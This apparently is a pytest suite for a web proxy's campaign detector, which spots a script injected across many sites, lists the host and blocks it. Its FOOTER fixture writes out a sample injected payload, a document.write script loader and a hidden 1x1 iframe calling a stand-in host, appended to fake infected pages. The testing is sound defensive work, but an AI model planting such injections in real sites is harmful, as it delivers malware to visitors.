"""Campaign detection in the proxy: the detector's state round trip, the local campaign
list and the engine's extra index, the worker loop, the addon's hook and reports, and the
admin routes."""

from __future__ import annotations

import json
import math
import queue
import threading
import warnings
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient

with warnings.catch_warnings():
    warnings.simplefilter("ignore", DeprecationWarning)
    from mitmproxy.test import taddons, tflow
from mitmproxy import http
from prometheus_client.parser import text_string_to_metric_families

from proxy_addons.addons import campaign_worker as worker
from proxy_addons.addons.campaign import Campaign
from proxy_addons.admin.app import AdminState, create_app
from proxy_addons.core.campaign import CampaignDetector, references
from proxy_addons.core.engine import Action, Engine
from proxy_addons.core.model import ListSpec, ParsedList, Rule, RuleKind
from proxy_addons.lists.campaign import (
    CampaignFiles,
    CampaignList,
    CampaignListError,
    Listed,
    compile_list,
    read_list,
    update_list,
)
from proxy_addons.lists.holder import EngineHolder
from proxy_addons.telemetry.events import EventLog
from proxy_addons.telemetry.metrics import Metrics

CT = "text/html; charset=utf-8"
EVIL = "cdn-stats.example"
FOOTER = (
    "<script>document.write('<script src=\"http://" + EVIL + "/x.js\"></scr'+'ipt>');"
    '</script><iframe src="http://' + EVIL + '/" width=1 height=1></iframe>'
)
T0 = 1_750_000_000.0
TOKEN = "campaign-test-token-0123456789"


def infected(site: str) -> tuple[str, bytes]:
    body = f"<html><head><title>{site}</title></head><body><p>hi</p></body></html>{FOOTER}"
    return f"http://www.{site}/", body.encode()


def clean(site: str) -> tuple[str, bytes]:
    body = f"<html><head><script src='http://cdn.{site.split('.')[0]}-tags.net/app.js'></script></head><body></body></html>"
    return f"http://www.{site}/", body.encode()


def feed(det: CampaignDetector, now: float, page: tuple[str, bytes]) -> list[Any]:
    url, body = page
    return det.observe(now, url, references(body, CT, url))


def quick(**kw: Any) -> CampaignDetector:
    return CampaignDetector(warmup_seconds=0, warmup_views=0, **kw)


# -- the detector's state -------------------------------------------------------------


def test_state_round_trip_keeps_sightings_and_flags_on_the_next_site() -> None:
    det = quick()
    assert not feed(det, T0, infected("shop-a.example"))
    assert not feed(det, T0 + 1, infected("news-b.example"))
    # a restart: through JSON, as the file holds it
    again = CampaignDetector.from_state(
        json.loads(json.dumps(det.to_state())), warmup_seconds=0, warmup_views=0
    )
    assert again.to_state() == det.to_state()
    found = feed(again, T0 + 2, infected("blog-c.example"))
    assert [f.host for f in found] == [EVIL]
    assert set(found[0].sites) == {"shop-a.example", "news-b.example", "blog-c.example"}
    # a fresh detector (no state) would have needed three more sites
    assert not feed(quick(), T0 + 2, infected("blog-c.example"))


def test_state_keeps_the_warm_up_and_the_flag() -> None:
    det = CampaignDetector(warmup_seconds=3600, warmup_views=2)
    feed(det, T0, clean("a.example"))
    state = det.to_state()
    again = CampaignDetector.from_state(state, warmup_seconds=3600, warmup_views=2)
    assert again.started == T0 and again.views == 1
    for i, site in enumerate(["a.example", "b.example", "c.example"]):
        feed(det, T0 + 7200 + i, infected(site))
    flagged = CampaignDetector.from_state(det.to_state(), warmup_seconds=3600, warmup_views=2)
    assert not feed(flagged, T0 + 7300, infected("d.example")), "flagged once, not again"


def test_state_is_bounded_on_load() -> None:
    det = quick(max_hosts=1000)
    for i in range(300):
        feed(det, T0 + i, clean(f"site{i}.example"))
    small = CampaignDetector.from_state(det.to_state(), max_hosts=100)
    assert len(small) == 100
    kept = {row[0] for row in small.to_state()["hosts"]}
    assert "cdn.site299-tags.net" in kept and "cdn.site0-tags.net" not in kept  # most recent


def _good_state() -> dict[str, Any]:
    det = quick()
    feed(det, T0, infected("a.example"))
    det.clear("gone.example", T0)
    return det.to_state()


@pytest.mark.parametrize(
    "spoil",
    [
        lambda s: s.update(version=2),
        lambda s: s.update(views=True),
        lambda s: s.update(views=-1),
        lambda s: s.update(started="yesterday"),
        lambda s: s.update(started=math.nan),
        lambda s: s.update(hosts={}),
        lambda s: s.update(cleared=[]),
        lambda s: s["cleared"].update({"x.example": "never"}),
        lambda s: s["hosts"].append(["h.example"]),
        lambda s: s["hosts"][0].__setitem__(1, math.inf),
        lambda s: s["hosts"][0].__setitem__(2, 1),  # established must be a bool
        lambda s: s["hosts"][0].__setitem__(3, "a.example"),
        lambda s: s["hosts"][0].__setitem__(4, {"a.example": None}),
        lambda s: s["hosts"][0].__setitem__(5, {"after-end": -1}),
        lambda s: s["hosts"][0].__setitem__(6, {f"s{i}": 1 for i in range(100)}),
        lambda s: s["hosts"][0].__setitem__(7, 1.5),
        lambda s: s["hosts"][0].__setitem__(9, "10.0.0.1"),
        lambda s: s["hosts"][0].pop(),
        lambda s: s.pop("salt"),
        lambda s: s.update(salt="short"),
    ],
)
def test_a_spoiled_state_is_refused(spoil: Any) -> None:
    state = _good_state()
    CampaignDetector.from_state(json.loads(json.dumps(state)))  # the unspoiled one loads
    spoil(state)
    with pytest.raises(ValueError):
        CampaignDetector.from_state(state)


def test_not_a_state_is_refused() -> None:
    for doc in (None, [], "x", {"version": 1}):
        with pytest.raises(ValueError):
            CampaignDetector.from_state(doc)


def test_a_cleared_host_is_not_flagged_again_within_the_window() -> None:
    det = quick(max_hosts=100)
    det.clear(EVIL, T0)
    # restart in between, and the host forgotten (evicted) and seen anew
    det = CampaignDetector.from_state(det.to_state(), warmup_seconds=0, warmup_views=0,
                                      max_hosts=100)  # fmt: skip
    sites = [f"s{i}.example" for i in range(5)]
    assert not any(feed(det, T0 + 10 + i, infected(s)) for i, s in enumerate(sites))
    # after the window, a new wave is a new campaign
    later = quick()
    later.clear(EVIL, T0)
    late = T0 + later.window + 60
    flagged = [f for i, s in enumerate(sites) for f in feed(later, late + i, infected(s))]
    assert [f.host for f in flagged] == [EVIL]


def test_clients_are_counted_as_salted_hashes() -> None:
    det = quick()
    for i, site in enumerate(["a.example", "b.example"]):
        url, body = infected(site)
        det.observe(T0 + i, url, references(body, CT, url), client=f"10.0.0.{i + 1}")
    url, body = infected("c.example")
    (found,) = det.observe(T0 + 5, url, references(body, CT, url), client="10.0.0.1")
    assert found.clients == 2 and "met by 2 distinct client(s)" in found.evidence
    text = json.dumps(det.to_state())
    assert "10.0.0.1" not in text and "10.0.0.2" not in text
    # the salt stays with the state: the same client is still one client after a restart
    again = CampaignDetector.from_state(json.loads(text), warmup_seconds=0, warmup_views=0)
    row = next(r for r in again.to_state()["hosts"] if r[0] == EVIL)
    assert len(row[9]) == 2
    assert again._client_tag("10.0.0.1") in row[9]
    assert quick()._client_tag("10.0.0.1") not in row[9]  # another deployment's salt


# -- the campaign list and the engine ---------------------------------------------------


def finding(host: str = EVIL, at: float = T0) -> dict[str, Any]:
    return {"event": "campaign", "host": host, "first_seen": at - 60, "flagged_at": at,
            "sites": ["a.example", "b.example", "c.example"], "pages": 3, "score": 4.5,
            "evidence": ["positions: after-end x3"]}  # fmt: skip


def base_engine() -> Engine:
    def rules(*hosts: str) -> ParsedList:
        return ParsedList("t", [Rule(RuleKind.DOMAIN, h, h, i + 1) for i, h in enumerate(hosts)])

    engine, _, _ = Engine.from_lists([
        (ListSpec(name="malware"), rules("evil.test")),
        (ListSpec(name="allow", allow=True), rules("allowed.example")),
    ])  # fmt: skip
    return engine


def test_list_file_round_trip_and_clear(tmp_path: Path) -> None:
    files = CampaignFiles.under(tmp_path)
    assert read_list(files).hosts == {}
    update_list(files, lambda lst: lst.add(Listed.from_finding(finding("CDN-Stats.Example."))))
    lst = read_list(files)
    assert list(lst.hosts) == [EVIL]  # canonical
    assert lst.hosts[EVIL].evidence == ("positions: after-end x3",)
    assert update_list(files, lambda lst: lst.clear(EVIL, T0 + 5)) is True
    assert update_list(files, lambda lst: lst.clear("other.example", T0 + 6)) is False
    lst = read_list(files)
    assert lst.hosts == {} and lst.cleared == {EVIL: T0 + 5, "other.example": T0 + 6}


def test_a_damaged_list_file_is_refused_and_rewritten(tmp_path: Path) -> None:
    files = CampaignFiles.under(tmp_path)
    files.dir.mkdir(parents=True)
    for text in ("{", "[]", '{"version": 1, "hosts": [{"host": "a b"}], "cleared": {}}',
                 '{"version": 1, "hosts": [], "cleared": {"x.example": "soon"}}'):  # fmt: skip
        files.list_path.write_text(text)
        with pytest.raises(CampaignListError):
            read_list(files)
    update_list(files, lambda lst: lst.add(Listed.from_finding(finding())))
    assert list(read_list(files).hosts) == [EVIL]


def test_the_list_blocks_through_the_engine_and_survives_swaps() -> None:
    lst = CampaignList()
    lst.add(Listed.from_finding(finding()))
    lst.add(Listed.from_finding(finding("allowed.example")))
    holder = EngineHolder(base_engine())
    assert holder.engine.check_url(f"http://{EVIL}/x.js").action is Action.PASS
    holder.set_extra(compile_list(lst))
    v = holder.engine.check_url(f"http://{EVIL}/x.js")
    assert v.action is Action.BLOCK and v.match is not None
    assert (v.match.list, v.match.category) == ("campaign", "campaign")
    assert holder.engine.check_host(EVIL).action is Action.BLOCK
    assert holder.engine.check_url("http://evil.test/").match.list == "malware"  # type: ignore[union-attr]
    # the operator's allowlist wins, as over any list
    assert holder.engine.check_url("http://allowed.example/").action is Action.ALLOW
    # a refresh swaps in a new engine (store.load_engine builds Engine(block, allow))
    fresh = base_engine()
    holder.swap(Engine(fresh.block, fresh.allow))
    assert holder.engine.check_url(f"http://{EVIL}/x.js").action is Action.BLOCK
    holder.swap(holder.engine.with_allow(Engine.empty_allow()))  # an allowlist reload
    assert holder.engine.check_url(f"http://{EVIL}/x.js").action is Action.BLOCK
    holder.set_extra(compile_list(CampaignList()))  # cleared
    assert holder.engine.check_url(f"http://{EVIL}/x.js").action is Action.PASS


def test_the_poison_guard_applies_to_the_campaign_list() -> None:
    lst = CampaignList()
    for host in ("127.0.0.1", "co.uk", "198.51.100.7"):
        lst.add(Listed.from_finding(finding(host)))
    engine = base_engine().with_extra(compile_list(lst))
    assert engine.check_host("127.0.0.1").action is Action.PASS
    assert engine.check_url("http://www.example.co.uk/").action is Action.PASS
    assert engine.check_host("198.51.100.7").action is Action.BLOCK


# -- the worker loop ----------------------------------------------------------------------


def view(page: tuple[str, bytes], at: float, coding: str = "") -> worker.PageView:
    url, body = page
    if coding == "gzip":
        import gzip

        body = gzip.compress(body)
    return worker.PageView(at, "10.0.0.1", url, CT, coding, body)


def run_worker(views: list[Any], state: Path, settings: worker.DetectorSettings) -> list[Any]:
    """The worker's loop on a thread with plain queues; everything it put out."""
    vq: queue.Queue[Any] = queue.Queue()
    cq: queue.Queue[Any] = queue.Queue()
    out: queue.Queue[Any] = queue.Queue()
    for v in views:
        vq.put(v)
    import os

    t = threading.Thread(target=worker.serve,
                         args=(vq, cq, out, settings, str(state), 3600, os.getppid()))  # fmt: skip
    t.start()
    # every view taken, then stop
    while not vq.empty():
        t.join(0.05)
    cq.put(worker.Stop())
    t.join(10)
    assert not t.is_alive()
    return [out.get_nowait() for _ in range(out.qsize())]


def test_worker_decodes_finds_saves_and_resumes(tmp_path: Path) -> None:
    state = tmp_path / "detector.json"
    settings = worker.DetectorSettings(warmup_seconds=0, warmup_views=0)
    out = run_worker([view(infected("a.example"), T0, "gzip"),
                      view(infected("b.example"), T0 + 1)], state, settings)  # fmt: skip
    assert out == []
    assert state.exists()
    out = run_worker([view(infected("c.example"), T0 + 2, "gzip")], state, settings)
    assert [type(m) for m in out] == [worker.Found]
    assert out[0].finding["host"] == EVIL


def test_worker_sets_a_damaged_state_aside(tmp_path: Path) -> None:
    state = tmp_path / "detector.json"
    state.write_text('{"version": 1, "hosts": "nope"}')
    out = run_worker([], state, worker.DetectorSettings())
    assert [type(m) for m in out] == [worker.Note]
    assert (tmp_path / "detector.json.bad").exists()
    assert json.loads(state.read_text())["version"] == 1  # a fresh state, saved at stop


# -- the addon --------------------------------------------------------------------------


def metric(m: Metrics, name: str, **labels: str) -> float:
    for fam in text_string_to_metric_families(m.render().decode()):
        for s in fam.samples:
            if s.name == name and all(s.labels.get(k) == v for k, v in labels.items()):
                return float(s.value)
    return 0.0


def html_flow(body: bytes = b"<html><body>x</body></html>", ctype: str = "text/html") -> Any:
    f = tflow.tflow(resp=True)
    f.request.url = "http://www.shop.example/news"
    f.response = http.Response.make(200, body, {"Content-Type": ctype})
    return f


@pytest.fixture
def addon(tmp_path: Path) -> Any:
    events, metrics = EventLog(), Metrics()
    a = Campaign(EngineHolder(base_engine()), events, metrics, cache_dir=tmp_path)
    with taddons.context(a) as tctx:
        tctx.configure(a, jg_campaign_queue=2)
        yield a


def test_hook_enqueues_html_only_and_drops_when_full(addon: Campaign) -> None:
    addon._views = queue.Queue(2)  # the process's queue, without the process
    addon.response(html_flow(ctype="image/png"))
    addon.response(html_flow(b"{}", "application/json"))
    assert addon._views.qsize() == 0
    addon.max_bytes = 10
    for _ in range(3):
        addon.response(html_flow())  # never waits: the third is dropped
    assert addon._views.qsize() == 2
    v = addon._views.get_nowait()
    assert v.url == "http://www.shop.example/news" and v.body == b"<html><bod"
    assert metric(addon.metrics, "jectguard_campaign_pages_total", result="queued") == 2
    assert metric(addon.metrics, "jectguard_campaign_pages_total", result="dropped") == 1


async def test_monitor_reports_without_listing(addon: Campaign) -> None:
    await addon.report(finding())
    ev = addon.events.recent(10, ["campaign"])
    assert len(ev) == 1
    assert ev[0]["host"] == EVIL and ev[0]["sites"] == ["a.example", "b.example", "c.example"]
    assert ev[0]["evidence"] == ["positions: after-end x3"] and ev[0]["verdict"] == "monitor"
    assert addon.holder.engine.check_url(f"http://{EVIL}/").action is Action.PASS
    assert metric(addon.metrics, "jectguard_campaign_findings_total", action="monitor") == 1


async def test_enforce_lists_blocks_and_clear_unblocks(addon: Campaign, tmp_path: Path) -> None:
    addon.action = "enforce"
    addon._control = queue.Queue()
    await addon.report({**finding(), "clients": 3})
    v = addon.holder.engine.check_url(f"http://{EVIL}/x.js")
    assert v.action is Action.BLOCK and v.match.category == "campaign"  # type: ignore[union-attr]
    assert list(read_list(CampaignFiles.under(tmp_path)).hosts) == [EVIL]
    assert [e["host"] for e in addon.listing()["listed"]] == [EVIL]
    assert await addon.clear("CDN-STATS.example") is True
    assert addon.holder.engine.check_url(f"http://{EVIL}/x.js").action is Action.PASS
    msg = addon._control.get_nowait()  # the detector hears of the clearance
    assert isinstance(msg, worker.Clear) and msg.host == EVIL
    # a finding the worker raised before it heard: not listed again
    await addon.report(finding(at=T0 + 10))
    assert addon.holder.engine.check_url(f"http://{EVIL}/x.js").action is Action.PASS
    with pytest.raises(ValueError):
        await addon.clear("not a host")


async def test_enforce_needs_several_clients(addon: Campaign, tmp_path: Path) -> None:
    """One client (perhaps infected, fetching pages it made) cannot get a host blocked."""
    addon.action = "enforce"
    addon.enforce_min_clients = 2
    await addon.report({**finding(), "clients": 1})
    assert addon.holder.engine.check_url(f"http://{EVIL}/").action is Action.PASS
    (ev,) = addon.events.recent(10, ["campaign"])
    assert ev["verdict"] == "monitor" and ev["action"] == "monitor"
    assert "jg_campaign_enforce_min_clients" in ev["held_back"]
    await addon.report({**finding("other.example"), "clients": 2})
    assert addon.holder.engine.check_url("http://other.example/").action is Action.BLOCK


async def test_enforce_lists_at_most_a_few_hosts_an_hour(addon: Campaign) -> None:
    from proxy_addons.addons.campaign import MAX_LISTED_PER_HOUR

    addon.action = "enforce"
    for i in range(MAX_LISTED_PER_HOUR + 2):
        await addon.report({**finding(f"h{i}.example"), "clients": 5})
    assert len(read_list(addon.files).hosts) == MAX_LISTED_PER_HOUR  # type: ignore[arg-type]
    last = addon.events.recent(1, ["campaign"])[0]
    assert last["action"] == "monitor" and "last hour" in last["held_back"]


async def test_a_list_changed_elsewhere_is_picked_up(addon: Campaign, tmp_path: Path) -> None:
    files = CampaignFiles.under(tmp_path)
    update_list(files, lambda lst: lst.add(Listed.from_finding(finding())))  # another process
    await addon._sync_list()
    assert addon.holder.engine.check_url(f"http://{EVIL}/").action is Action.BLOCK
    update_list(files, lambda lst: lst.clear(EVIL, T0))  # `jectguard lists --clear-campaign`
    await addon._sync_list()
    assert addon.holder.engine.check_url(f"http://{EVIL}/").action is Action.PASS


def test_options_are_checked(addon: Campaign) -> None:
    from mitmproxy import exceptions

    for name, value in [("jg_campaign_min_sites", 1), ("jg_campaign_queue", 0),
                        ("jg_campaign_max_bytes", 10**12)]:  # fmt: skip
        with pytest.raises(exceptions.OptionsError, match=name):
            from mitmproxy import ctx

            ctx.options.update(**{name: value})


# -- the admin routes ----------------------------------------------------------------------


class FakeControl:
    def __init__(self) -> None:
        self.cleared: list[str] = []

    def listing(self) -> dict[str, Any]:
        return {"action": "enforce", "listed": [{"host": EVIL}], "findings": []}

    async def clear(self, host: str) -> bool:
        if " " in host:
            raise ValueError("spaces")
        self.cleared.append(host)
        return True


async def test_admin_campaign_routes(aiohttp_client: Any) -> None:
    control = FakeControl()
    state = AdminState(token=TOKEN, engine=base_engine, events=EventLog(), metrics=Metrics(),
                       campaigns=control)  # fmt: skip
    client: TestClient[Any, Any] = await aiohttp_client(create_app(state))
    auth = {"Authorization": f"Bearer {TOKEN}"}
    assert (await client.get("/api/campaigns")).status == 401
    assert (await client.delete(f"/api/campaigns/{EVIL}")).status == 401
    assert control.cleared == []
    r = await client.get("/api/campaigns", headers=auth)
    assert r.status == 200 and (await r.json())["listed"] == [{"host": EVIL}]
    r = await client.delete(f"/api/campaigns/{EVIL}", headers=auth)
    assert r.status == 200 and (await r.json()) == {"cleared": EVIL, "was_listed": True}
    r = await client.delete("/api/campaigns/a%20b", headers=auth)
    assert r.status == 400
    r = await client.delete("/api/campaigns/a%01b", headers=auth)
    assert r.status == 400
    assert control.cleared == [EVIL]


async def test_admin_campaign_routes_without_the_addon(aiohttp_client: Any) -> None:
    state = AdminState(token=TOKEN, engine=base_engine, events=EventLog(), metrics=Metrics())
    client = await aiohttp_client(create_app(state))
    r = await client.get("/api/campaigns", headers={"Authorization": f"Bearer {TOKEN}"})
    assert r.status == 501


def test_a_second_process_on_the_same_state_keeps_its_own(tmp_path: Path) -> None:
    state = tmp_path / "detector.json"
    held = worker._lock_state(state)  # as another proxy process's detector holds it
    assert held is not None
    try:
        out = run_worker([view(infected("a.example"), T0)], state, worker.DetectorSettings())
        assert any(isinstance(m, worker.Note) and "another proxy process" in m.text for m in out)
        assert not state.exists()  # never overwritten by the second one
    finally:
        held.close()
    run_worker([], state, worker.DetectorSettings())
    assert state.exists()  # released: the next one keeps it


async def test_status_lists_the_campaign_list(aiohttp_client: Any) -> None:
    lst = CampaignList()
    lst.add(Listed.from_finding(finding()))
    engine = base_engine().with_extra(compile_list(lst))
    state = AdminState(token=TOKEN, engine=lambda: engine, events=EventLog(), metrics=Metrics())
    client = await aiohttp_client(create_app(state))
    r = await client.get("/api/status", headers={"Authorization": f"Bearer {TOKEN}"})
    lists = {x["name"]: x for x in (await r.json())["lists"]}
    assert lists["campaign"]["category"] == "campaign" and not lists["campaign"]["allow"]


def test_hook_skips_what_is_no_page(addon: Campaign) -> None:
    addon._views = queue.Queue(10)
    head = html_flow()
    head.request.method = "HEAD"
    partial = html_flow()
    partial.response.status_code = 206
    streamed = html_flow()
    streamed.response.stream = True
    nosniff = html_flow(ctype="text/plain")
    nosniff.response.headers["X-Content-Type-Options"] = "nosniff"
    empty = html_flow(b"")
    for f in (head, partial, streamed, nosniff, empty):
        addon.response(f)
    assert addon._views.qsize() == 0
    addon.enabled = False
    addon.response(html_flow())
    assert addon._views.qsize() == 0
    addon.enabled = True
    gz = html_flow(ctype="text/html; charset=utf-8")
    gz.response.headers["Content-Encoding"] = "gzip"
    addon.response(gz)
    v = addon._views.get_nowait()
    assert v.content_encoding == "gzip" and v.content_type == "text/html; charset=utf-8"


def test_hook_skips_bodies_a_browser_shows_as_text(addon: Campaign) -> None:
    """Only what may be parsed as HTML reaches the detector (the stripper's first decision)."""
    addon._views = queue.Queue(10)
    addon.response(html_flow(b"ok", "text/plain"))  # a plain answer: shown as text
    addon.response(html_flow(b"just words", ""))  # unlabelled, sniffs as text
    addon.response(html_flow(b"\x00\x01binary", "application/octet-stream"))
    assert addon._views.qsize() == 0
    assert metric(addon.metrics, "jectguard_campaign_pages_total", result="queued") == 0
    sniffed = html_flow(b"  <html><script src=//x.test/a.js></script>", "text/plain")
    unlabelled = html_flow(b"<!DOCTYPE html><p>x", "")
    coded = html_flow(b"\x1f\x8b not readable before decoding", "")
    coded.response.headers["Content-Encoding"] = "gzip"  # judged by the worker, once decoded
    for f in (sniffed, unlabelled, coded):
        addon.response(f)
    assert addon._views.qsize() == 3


def test_hook_names_the_user_when_there_is_one(addon: Campaign) -> None:
    addon._views = queue.Queue(10)
    f = html_flow()
    f.metadata["proxyauth"] = ("alice", "secret")
    addon.response(f)
    addon.response(html_flow())
    users = [addon._views.get_nowait().client for _ in range(2)]
    assert users[0] == "user:alice" and "secret" not in users[0]
    assert users[1] == str(html_flow().client_conn.peername[0])


async def test_lifecycle_with_the_real_process(tmp_path: Path) -> None:
    """running() starts the detector's process, an option change restarts it off the event
    loop (the state carries over), done() stops it and the state is on disk."""
    a = Campaign(EngineHolder(base_engine()), EventLog(), Metrics(), cache_dir=tmp_path)
    with taddons.context(a) as tctx:
        tctx.configure(a, jg_campaign_warmup_views=0, jg_campaign_warmup_seconds=0)
        await a.running()
        try:
            first = a._proc
            assert first is not None and first.is_alive()
            tctx.configure(a, jg_campaign_min_sites=4)
            tctx.configure(a, jg_campaign_min_sites=5)  # a second change at once
            assert a._restart_task is not None
            await a._restart_task
            import multiprocessing

            workers = [
                c for c in multiprocessing.active_children() if c.name == "jectguard-campaign"
            ]
            assert workers == [a._proc]  # one worker, not two
            assert not first.is_alive() and a._proc is not None and a._proc.is_alive()
            assert a._proc.pid != first.pid
        finally:
            await a.done()
    assert a._proc is None
    state = json.loads((tmp_path / "campaign" / "detector.json").read_text())
    assert state["version"] == 1
